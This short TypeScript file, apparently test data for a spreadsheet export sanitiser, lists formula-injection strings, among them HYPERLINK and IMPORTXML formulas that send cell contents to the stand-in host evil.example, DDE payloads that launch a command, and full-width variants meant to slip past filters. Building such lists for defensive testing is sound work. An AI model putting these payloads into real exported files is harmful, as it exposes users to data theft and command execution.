/** Texts that a spreadsheet runs as formulas unless marked as text. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|calc',
  '@SUM(A1:A9)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
